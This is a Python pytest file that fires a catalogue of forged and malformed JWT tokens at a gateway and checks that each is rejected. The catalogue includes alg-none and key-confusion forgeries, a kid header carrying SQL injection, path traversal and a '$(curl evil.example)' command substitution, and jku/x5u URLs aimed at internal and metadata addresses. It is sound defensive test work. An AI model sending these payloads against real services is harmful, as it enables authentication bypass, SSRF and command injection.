"""Forged, borrowed and outsized tokens, at every door that takes one."""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Iterator
from typing import Any

import pytest

from tests.attacks import gateway as attacked
from tests.attacks.attack import Attack, Expected, answered, each, holds
from tests.attacks.gateway import Gateway
from tests.attacks.sendings import GRAPHQL, REST, WEBSOCKET, Bearer, Http
from tests.support.issuer import forged, pair, part
from tests.support.service import SECRET

DAY = 86_400  # s
NOW = int(time.time())
GOOD: dict[str, Any] = {"sub": "mallory", "iat": NOW - 60, "exp": NOW + DAY, "permissions": ["*:*"]}
REFUSED = Expected(statuses=(401,), codes=("UNAUTHENTICATED",), closes=(4403,))
# Longer than a head may be: refused below the application, or as a token.
TOO_LONG = Expected(statuses=(400, 401, 431, None), closes=(4403, 1006))
RFC_8725 = "RFC 8725 3.1"


def header(**fields: Any) -> dict[str, Any]:
    return {"alg": "HS256", "typ": "JWT", **fields}


def signed(claims: Any = None, *, secret: str = SECRET, **fields: Any) -> Bearer:
    """A token that is rightly signed, with these fields in its header."""
    return Bearer(forged(header(**fields), GOOD if claims is None else claims, secret))


def claiming(**claims: Any) -> Bearer:
    """A token that is rightly signed, with these claims; None takes one away."""
    return signed({k: v for k, v in {**GOOD, **claims}.items() if v is not None})


def row(name: str, what: str, source: str, token: Bearer, expect: Expected = REFUSED) -> Attack:
    return Attack(name, what, source, token, expect)


def unsigned(algorithm: str) -> Bearer:
    return Bearer(f"{part({'alg': algorithm, 'typ': 'JWT'})}.{part(GOOD)}.")


def padded(token: Bearer) -> Bearer:
    return Bearer(".".join(x + "=" * (-len(x) % 4) for x in token.token.split(".")))


WHOLE = signed()
HEAD, BODY, SIGNATURE = WHOLE.token.split(".")
DEEP = ("[" * 3000 + "]" * 3000).encode()
GUESSES = ("secret", "your-256-bit-secret", "changeme", "")

ATTACKS = [
    # -- algorithms
    row("alg none", "no signature is asked for", f"{RFC_8725}; CVE-2015-9235", unsigned("none")),
    row("alg None", "the same in other letters", f"{RFC_8725}; CVE-2015-9235", unsigned("nOnE")),
    row("alg none, signed", "none, and the good token's signature", RFC_8725,
        Bearer(f"{part({'alg': 'none'})}.{BODY}.{SIGNATURE}")),
    row("alg empty", "an algorithm without a name", RFC_8725, signed(alg="")),
    row("alg absent", "no algorithm", "RFC 7515 4.1.1",
        Bearer(forged({"typ": "JWT"}, GOOD, SECRET))),
    row("alg list", "two algorithms", RFC_8725, signed(alg=["HS256", "none"])),
    row("alg RS256", "an algorithm for which there is no key", RFC_8725, signed(alg="RS256")),
    row("alg HS512", "a longer hash, which is not allowed here", RFC_8725, signed(alg="HS512")),
    row("alg PBES2", "a key to be derived in 2**31 steps", "CVE-2022-36083 (jose)",
        signed(alg="PBES2-HS256+A128KW", p2c=2**31 - 1, p2s="AAAA")),
    row("alg dir", "an encrypted token without a key", "CVE-2024-28102 (JWCrypto)",
        Bearer(f"{part({'alg': 'dir', 'enc': 'A256GCM', 'zip': 'DEF'})}..AAAA.AAAA.AAAA")),
    row("psychic signature", "r and s of nothing", "CVE-2022-21449 (Java)",
        Bearer(f"{part(header(alg='ES256'))}.{BODY}.{part(bytes(64))}")),
    # -- keys that a token brings, or names
    row("kid of a path", "a key's file, whose content is known", "CWE-22",
        signed(kid="../../../../dev/null", secret="")),
    row("kid of SQL", "a key of the attacker's from a table", "CWE-89",
        signed(kid="x' UNION SELECT 'known'--", secret="known")),
    row("kid of a command", "run where keys are looked up", "CWE-78",
        signed(kid="$(curl evil.example)", secret="known")),
    row("kid of a number", "an id that is no text", "RFC 7515 4.1.4", signed(kid=1)),
    row("jku", "a URL of keys", "RFC 8725 3.10; CWE-918",
        signed(jku="http://127.0.0.1:1/jwks", secret="known")),
    row("x5u", "a URL of certificates", "RFC 8725 3.10; CWE-918",
        signed(x5u="http://169.254.169.254/", secret="known")),
    row("jwk", "the key that verifies it", "CVE-2018-0114; CVE-2026-27962 (Authlib)",
        signed(jwk={"kty": "oct", "k": part(b"known")}, secret="known")),
    row("x5c", "the certificate that verifies it", "RFC 8725 3.10",
        signed(x5c=["AAAA"], secret="known")),
    *(row(f"guessed secret {guess!r}", "a secret of tutorials", "RFC 8725 3.5; CWE-521",
          signed(secret=guess)) for guess in GUESSES),
    # -- what is critical
    row("crit of an unknown", "an extension that must be understood",
        "RFC 7515 4.1.11; CVE-2025-59420 (Authlib)", signed(crit=["bork"], bork=1)),
    row("crit of nothing", "an empty list", "RFC 7515 4.1.11", signed(crit=[])),
    row("b64 false", "a payload that is not encoded", "RFC 7797 6",
        signed(b64=False, crit=["b64"])),
    # -- form
    row("two parts", "without a signature", "RFC 7515 7.1", Bearer(f"{HEAD}.{BODY}")),
    row("four parts", "one too many", "RFC 7515 7.1", Bearer(f"{WHOLE.token}.AAAA")),
    row("five parts", "an encrypted token's form", "RFC 7516 7.1",
        Bearer(f"{HEAD}....{SIGNATURE}")),
    row("ten thousand dots", "split over and over", "CVE-2025-27144; CWE-770",
        Bearer("." * 10_000), TOO_LONG),
    row("signature cut", "its first half", "CWE-347", Bearer(f"{HEAD}.{BODY}.{SIGNATURE[:20]}")),
    row("signature of another token", "two good halves", "CWE-347",
        Bearer(f"{HEAD}.{part(GOOD | {'sub': 'alice'})}.{SIGNATURE}")),
    row("JSON serialisation", "the other form of a JWS", "RFC 7515 7.2",
        Bearer(base64.b64encode(json.dumps({"payload": BODY, "protected": HEAD,
                                            "signature": SIGNATURE}).encode()).decode())),
    row("standard base64", "with + and /", "RFC 7515 2",
        Bearer(f"{HEAD}.{BODY}.{'+/' * 21}A")),
    row("a header that is a list", "no object", "RFC 7515 4", Bearer(forged([], GOOD, SECRET))),
    row("claims that are a list", "no object", "RFC 7519 7.2", signed([])),
    row("claims of deep lists", "6,000 brackets", "CWE-674", signed(DEEP)),
    row("a header of deep lists", "6,000 brackets", "CWE-674", Bearer(forged(DEEP, GOOD, SECRET))),
    row("claims of bad UTF-8", "bytes that are no text", "RFC 7519 7.2",
        signed(b'{"sub":"\xff\xfe"}')),
    row("claims of a long number", "4,000 digits, which Python will not read", "CVE-2020-10735",
        signed(b'{"sub":"m","exp":' + b"9" * 4400 + b"}")),
    row("claims in UTF-16", "another encoding of JSON", "RFC 8259 8.1",
        signed(json.dumps(GOOD).encode("utf-16"))),
    row("a token of 15 KB", "as long as a token may be, and signed by nobody", "CWE-770",
        Bearer(f"{HEAD}.{'A' * 15_000}.{SIGNATURE}"), TOO_LONG),
    Attack("a token of 60 KB", "longer than any", "CWE-770", Bearer("A" * 60_000),
           TOO_LONG),
    # -- claims
    row("expired", "for as long as clocks may differ, and a second", "RFC 7519 4.1.4",
        claiming(exp=NOW - 11)),
    row("no exp", "a token for ever", "RFC 8725 3.10; CWE-613", claiming(exp=None)),
    row("exp of text", "no number", "RFC 7519 4.1.4", claiming(exp=str(NOW + DAY))),
    row("exp true", "which is 1", "RFC 7519 4.1.4", claiming(exp=True)),
    row("exp infinity", "what Python takes for JSON", "RFC 8259 6",
        signed(json.dumps(GOOD | {"exp": float("inf")}).encode())),
    row("exp NaN", "neither before nor after", "RFC 8259 6",
        signed(json.dumps(GOOD | {"exp": float("nan")}).encode())),
    row("exp 1e400", "a number that is infinite", "RFC 8259 6",
        signed(b'{"sub":"m","exp":1e400}')),
    row("nbf to come", "not yet", "RFC 7519 4.1.5", claiming(nbf=NOW + DAY)),
    row("iat to come", "signed tomorrow", "RFC 7519 4.1.6", claiming(iat=NOW + DAY)),
    row("no sub", "nobody's", "RFC 7519 4.1.2", claiming(sub=None)),
    row("sub of NUL", "a name that ends early in C", "CWE-158", claiming(sub="alice\x00mallory")),
    row("sub of a line", "a line of the log", "CWE-117", claiming(sub='a\n{"level":"error"}')),
    row("sub of a surrogate", "what cannot be encoded", "CWE-176", claiming(sub="\ud800")),
    row("sub of a list", "no name", "RFC 7519 4.1.2", claiming(sub=["alice", "mallory"])),
    row("sub of 300 letters", "longer than a name", "CWE-770", claiming(sub="a" * 300)),
    row("sub of spaces", "nothing to see", "RFC 7519 4.1.2", claiming(sub="   ")),
    row("a refresh token", "of another use", "RFC 8725 2.8", claiming(type="refresh")),
    row("permissions of an object", "no list", "CWE-20", claiming(permissions={"*:*": True})),
    row("scope of a list", "no text", "RFC 8693 4.2", claiming(scope=["*:*"])),
    # -- schemes
    row("Basic", "another scheme", "RFC 7617",
        Bearer(base64.b64encode(b"admin:admin").decode(), scheme="Basic ")),
    row("Bearer of nothing", "a scheme alone", "RFC 6750 2.1", Bearer("", scheme="Bearer")),
    row("two tokens in one header", "of which one is good", "CWE-436",
        Bearer(f"{WHOLE.token}, {WHOLE.token}x")),
    row("two words", "a token and another", "RFC 6750 2.1", Bearer(f"{WHOLE.token} {WHOLE.token}")),
    # -- what only looks like more
    Attack("a wildcard is no admin", "everything, but for what a wildcard never gives",
           "auth-and-limits; CWE-269",
           Http("GET", "/api/v2/events?all=true", headers={"Accept": "text/event-stream"},
                claims={"permissions": ["*:*", "gateway:*", "*"]}),
           answered(403, codes=("FORBIDDEN",))),
    Attack("a tier that is none", "an object's member in other languages", "CWE-1321",
           Http("GET", "/api/v2/content/x", claims={"tier": "__proto__"}), answered(404)),
]  # fmt: skip


@each(ATTACKS)
def test_no_forged_token_is_taken(gateway: Gateway, attack: Attack, edge: str) -> None:
    holds(gateway, attack, edge)


# -- where keys are public
PUBLIC = pair("RS256").public_pem
DER = base64.b64decode("".join(PUBLIC.split("\n")[1:-2]))
CONFUSED = [
    Attack(
        f"RS256 to HS256, {name}",
        "the public key as a shared secret, in one of its forms",
        "RFC 8725 2.1; CVE-2015-9235; CVE-2022-29217 (PyJWT)",
        Bearer(forged(header(), GOOD, secret)),
        REFUSED,
        edges=(REST, GRAPHQL, WEBSOCKET),
    )
    for name, secret in {
        "as it is": PUBLIC,
        "without its last line's end": PUBLIC.strip(),
        "one line": PUBLIC.replace("\n", ""),
        "base64": base64.b64encode(DER).decode(),
    }.items()
]


@pytest.fixture(scope="module")
def public(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    directory = tmp_path_factory.mktemp("public")
    (directory / "key.pem").write_text(PUBLIC)
    keys = {
        "LOREGATE_JWT_SECRET": "",
        "LOREGATE_JWT_PUBLIC_KEY": str(directory / "key.pem"),
    }
    with attacked.serving(directory, **keys) as found:
        yield found


@pytest.mark.long
@each(CONFUSED)
def test_a_public_key_is_no_secret(public: Gateway, attack: Attack, edge: str) -> None:
    anybody = Http("GET", "/health/ready", anonymous=True)  # who has no key, as the tests
    holds(public, attack, edge, following=anybody)
